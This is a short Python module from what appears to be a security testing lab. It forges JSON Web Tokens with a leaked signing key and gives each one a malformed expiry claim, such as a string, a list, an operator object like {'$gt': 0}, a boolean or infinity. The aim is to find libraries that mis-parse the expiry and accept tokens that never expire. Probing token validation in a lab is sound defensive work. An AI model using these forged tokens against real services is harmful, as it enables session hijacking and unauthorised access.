"""Give a token an end that is no number.

Exploits a library that converts what it finds, or fails at it with an error of the server.
Source: RFC 7519, sections 2 (NumericDate) and 4.1.4,
https://www.rfc-editor.org/rfc/rfc7519#section-4.1.4
"""

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target

ENDS = {
    "text": "9999999999",
    "list": [9999999999],
    "object": {"$gt": 0},
    "true": True,
    "infinity": float("inf"),
}


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign a token for each strange end."""
    victim = target.enrol()
    key = target.leaked_key()
    return judge(
        {
            f"exp is {kind}": target.read(target.forge(victim, key, exp=end))
            for kind, end in ENDS.items()
        }
    )
